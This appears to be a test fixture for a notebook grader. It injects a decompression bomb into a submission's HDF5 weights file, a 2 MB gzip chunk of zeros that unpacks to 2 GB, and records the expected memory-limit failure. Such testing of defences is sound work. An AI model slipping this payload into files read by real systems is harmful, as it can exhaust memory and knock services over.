"""A weights file of two megabytes with an array of the right shape, packed so that it unpacks to two gigabytes."""

import io
import zlib

import h5py
from corpus import WEIGHTS

FAMILY = "attacks on readers"
NOTEBOOKS = (3,)
EXPECTED = {"test_accuracy": 0}
HELP = {"test_accuracy": "it went over the limit for memory"}
NOTES = ("it went over the limit for memory", "It was in the cell 'test_accuracy'.")
FLAGGED = ("test_accuracy",)
BLOCKS, BLOCK = 2**11, 2**20  # two gigabytes of zeros


def edit(submission):
    packer = zlib.compressobj(9)
    start = packer.compress(bytes(BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = (BLOCKS * BLOCK % 65521) << 16 | 1
    packed = start + block * (BLOCKS - 1) + b"\x03\x00" + checksum.to_bytes(4, "big")
    file = io.BytesIO(submission.files[WEIGHTS])
    with h5py.File(file, "r+") as weights:
        place = weights["layers/dense/vars"]
        del place["0"]
        chunk = (2**14, BLOCKS * BLOCK // 2**16)
        array = place.create_dataset(
            "0", (256, 120), "f4", chunks=chunk, maxshape=(None, None), compression="gzip"
        )
        array.id.write_direct_chunk((0, 0), packed)
    submission.files[WEIGHTS] = file.getvalue()
